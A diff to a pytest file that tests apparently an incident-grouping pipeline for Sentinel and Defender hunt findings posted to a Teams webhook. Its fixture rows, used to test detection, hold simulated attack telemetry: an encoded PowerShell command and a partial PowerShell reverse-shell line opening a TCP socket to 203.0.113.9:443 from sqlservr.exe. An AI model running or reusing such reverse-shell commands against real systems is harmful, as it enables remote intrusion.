@@ -14,7 +14,7 @@ from typing import Any
 import pytest
 
 from devtools.webhook import Reply, WebhookReceiver
-from shared.cards import MAX_PAYLOAD_BYTES, card_of, payload_size
+from shared.cards import MAX_PAYLOAD_BYTES, card_of, payload_size, summarize_digest
 from shared.hunt import Hunt, load_hunts
 from shared.incidents import IncidentPost, IncidentStore, process_run
 from shared.incidents.pipeline import IncidentOutcome, IncidentSettings
@@ -272,6 +272,51 @@ def test_concurrent_runs_on_one_device_make_one_incident(
     ids = {i for o in outcomes for i in o.opened + o.updated}
     assert len(ids) == 1
     assert len(hook.payloads) == 2
+    # One post opens the incident, the other run's evidence updates it (never two openings).
+    assert sorted(summarize_digest(p).kind for p in hook.payloads) == ["incident", "update"]
+    assert sum(len(o.opened) for o in outcomes) == 1
     incident = store.open_incidents(base + timedelta(hours=1), timedelta(days=1))
     assert len(incident) == 1
     assert len(incident[0].members) == 2
+
+
+def test_sentinel_rows_group_by_computer_and_device_name(
+        store: IncidentStore, hook: WebhookReceiver) -> None:
+    """Sentinel tables have no DeviceId: SecurityEvent rows group by Computer, Sentinel's
+    DeviceProcessEvents rows by DeviceName, the same machine whatever the case."""
+    events = Hunt(id="5e000000-0000-4000-8000-000000000001", name="Encoded command (4688)",
+                  query="x", source="sentinel", path=Path("sec.yaml"), severity="High")
+    mde = Hunt(id="5e000000-0000-4000-8000-000000000002", name="Socket in PowerShell (MDE)",
+               query="x", source="sentinel", path=Path("mde.yaml"), severity="Medium")
+    base = datetime(2026, 11, 27, 9, tzinfo=UTC)
+
+    def finding(hunt: Hunt, index: int, row: dict[str, Any]) -> Finding:
+        moment = base + timedelta(minutes=index)
+        return Finding(hunt.id, f"{hunt.id[-1]}k{index}",
+                       {"TimeGenerated": moment.isoformat(), **row}, moment, base, 1)
+
+    findings = {
+        events.id: [finding(events, 0, {"Computer": "SRV-SQL-01.corp.contoso.com",
+                                        "EventID": 4688, "Account": "CONTOSO\\svc-sql",
+                                        "CommandLine": "powershell -enc SQBFAFgA"}),
+                    finding(events, 5, {"Computer": "ws-hr-022.corp.contoso.com",
+                                        "EventID": 4688, "CommandLine": "powershell -enc AA"})],
+        mde.id: [finding(mde, 2, {"DeviceName": "srv-sql-01.corp.contoso.com",
+                                  "FileName": "powershell.exe",
+                                  "InitiatingProcessFileName": "sqlservr.exe",
+                                  "ProcessCommandLine": "powershell -c $c=New-Object "
+                                                        "Net.Sockets.TCPClient('203.0.113.9',443)",
+                                  "RemoteIP": "203.0.113.9", "RemotePort": 443})]}
+    with closing(TeamsNotifier(hook.url, min_interval_seconds=0)) as webhook:
+        outcome = run_incidents(findings, [events, mde], store, webhook, base + timedelta(hours=1))
+    assert len(hook.payloads) == 2
+    by_device = {title(p).rsplit(" on ", 1)[1]: p for p in hook.payloads}
+    assert set(by_device) == {"srv-sql-01.corp.contoso.com", "ws-hr-022.corp.contoso.com"}
+    sql = summarize_digest(by_device["srv-sql-01.corp.contoso.com"])
+    assert dict(sql.hunts) == {"Encoded command (4688)": 1, "Socket in PowerShell (MDE)": 1}
+    assert sql.total_new == 2
+    assert "sqlservr.exe → powershell.exe → 203.0.113.9:443" in texts(
+        by_device["srv-sql-01.corp.contoso.com"])
+    assert "advanced hunting" not in json.dumps(hook.payloads)  # Sentinel evidence only
+    assert sum(len(k) for k in outcome.delivered.values()) == 3
+    assert len(outcome.opened) == 2
